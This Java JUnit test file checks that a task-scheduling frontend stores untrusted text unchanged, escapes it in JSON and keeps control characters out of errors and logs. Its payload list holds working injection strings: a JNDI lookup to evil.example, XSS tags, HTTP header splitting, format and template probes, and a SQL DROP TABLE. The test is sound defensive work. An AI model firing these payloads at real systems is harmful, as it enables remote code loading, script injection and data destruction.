package dev.atf.frontend;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.atf.model.Failure;
import dev.atf.protocol.v1.CancelTaskRequest;
import dev.atf.protocol.v1.GetTaskRequest;
import dev.atf.protocol.v1.Lambda;
import dev.atf.protocol.v1.ScheduleRequest;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Isolated;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/** Text that looks like code is data: it is stored as it is and escaped wherever it is shown. */
@Isolated("reads what the whole process logs")
final class UntrustedTextTest {
  private static final List<String> NASTY =
      List.of(
          "${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script>",
          "</script><img src=x onerror=alert(1)>",
          "a\r\nset-cookie: stolen=1\r\n\r\nHTTP/1.1 200 OK",
          "\u001b[2J\u001b[31mred",
          "\u202egnp.exe",
          "{{7*7}} #{7*7} %s %n %x",
          "'; DROP TABLE entities; --",
          "\u2028\u2029\u0085\ud83d\udca9");
  private static TestFrontend frontend;

  @BeforeAll
  static void start() {
    frontend = new TestFrontend();
    frontend.registered("resize");
  }

  @AfterAll
  static void stop() {
    frontend.close();
  }

  private static Stream<Arguments> nasty() {
    return NASTY.stream()
        .flatMap(
            text ->
                Arrays.stream(Transport.values())
                    .map(transport -> Arguments.arguments(transport, text)));
  }

  @ParameterizedTest(name = "{0} {index}")
  @MethodSource("nasty")
  @Tag("B18")
  @Tag("T17")
  void labelsAndReasonsAreKeptAsTheyAreAndEscapedInJson(Transport transport, String text) {
    var request = ScheduleRequest.newBuilder().setLambda("resize").putLabels("note", text).build();
    var taskId = transport.call(frontend, request).requireOk().text("taskId");
    var cancel = CancelTaskRequest.newBuilder().setTaskId(taskId).setReason(text).build();
    transport.call(frontend, cancel).requireOk();

    var task = transport.call(frontend, GetTaskRequest.newBuilder().setTaskId(taskId).build());
    var raw = frontend.get("/v1/tasks/" + taskId).body();

    assertThat(task.requireOk().body().path("labels").path("note").asText()).isEqualTo(text);
    assertThat(task.body().path("failure").path("message").asText()).isEqualTo(text);
    assertThat(raw).doesNotContain("\r", "\n", "\u001b", "<script>", "</script>");
  }

  @ParameterizedTest(name = "{0} {index}")
  @MethodSource("nasty")
  void namesThatAreRefusedStandInErrorsWithoutControlCharacters(Transport transport, String text) {
    var request =
        ScheduleRequest.newBuilder()
            .setLambda("resize")
            .setCollection(text)
            .setPriority(text)
            .putLabels("\r\n" + text, "")
            .build();

    var reply = transport.call(frontend, request);

    assertThat(reply.fields()).containsExactly("priority", "collection", "labels");
    assertThat(reply.message() + reply.descriptions())
        .doesNotContain("\r", "\n", "\u001b", "\u202e", "\u0085", "\u2028");
  }

  @ParameterizedTest
  @EnumSource
  void anErrorOfManyNastyFieldsStillFitsIntoATrailer(Transport transport) {
    var request = ScheduleRequest.newBuilder().setLambda("resize");
    for (int i = 0; i < 500; i++) {
      request.putLabels("\n" + "\ud83d\udca9".repeat(100) + i, "");
    }

    var reply = transport.call(frontend, request.build());

    assertThat(reply.reason()).isEqualTo("FIELD_INVALID");
    assertThat(reply.fields()).startsWith("labels").contains("");
    assertThat(reply.message()).endsWith("…");
  }

  @Test
  void errorsOfUnreadableTextRepeatNoneOfIt() {
    for (var body :
        List.of(
            "secretToken",
            "{\"json\":secretToken}",
            "{\"secretToken\":1,\"secretToken\":2}",
            "{\"json\":\"secretToken\\ud800\"}",
            "{\"data\":\"secretToken\"}")) {
      var answer = frontend.post("/v1/lambdas/resize/tasks", body);

      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.body()).doesNotContain("secretToken");
    }
  }

  @Test
  void aFailureTextThatIsCutWithinAnEmojiCanBeRead() {
    var request = ScheduleRequest.newBuilder().setLambda("resize").build();
    var taskId = Transport.GRPC.call(frontend, request).requireOk().text("taskId");
    var cut = "x".repeat(Failure.TEXT_CHARS_MAX - 2) + "\ud83d\udca9\ud83d\udca9";
    var pipeline = new Pipeline(frontend);
    pipeline.failFatally(pipeline.run(taskId), new Failure(cut, cut, cut, false));

    for (var transport : Transport.values()) {
      var task = transport.call(frontend, GetTaskRequest.newBuilder().setTaskId(taskId).build());
      assertThat(task.requireOk().body().path("failure").path("message").asText())
          .isEqualTo("x".repeat(Failure.TEXT_CHARS_MAX - 2) + "…");
    }
  }

  @Test
  @Tag("B18")
  @Tag("T13")
  void linesOfTheLogStayLines() {
    var log = (Logger) LoggerFactory.getLogger("dev.atf");
    var lines = new ListAppender<ILoggingEvent>();
    lines.start();
    var before = log.getLevel();
    log.setLevel(ch.qos.logback.classic.Level.DEBUG);
    log.addAppender(lines);

    for (var text : NASTY) {
      for (var transport : Transport.values()) {
        transport.call(
            frontend,
            Lambda.newBuilder().setName("logged").setOwner(text).setDescription(text).build());
        transport.call(frontend, Lambda.newBuilder().setName(text).build());
        var request =
            ScheduleRequest.newBuilder()
                .setLambda("resize")
                .putLabels("note", text)
                .setIdempotencyKey("k" + text.codePointAt(0))
                .build();
        transport.call(frontend, request);
        transport.call(frontend, CancelTaskRequest.newBuilder().setTaskId(text).build());
      }
    }

    log.detachAppender(lines);
    log.setLevel(before);
    assertThat(lines.list).extracting(ILoggingEvent::getFormattedMessage).isNotEmpty();
    assertThat(lines.list)
        .extracting(ILoggingEvent::getFormattedMessage)
        .noneMatch(
            line -> line.codePoints().anyMatch(Character::isISOControl) || line.contains("jndi"));
  }
}
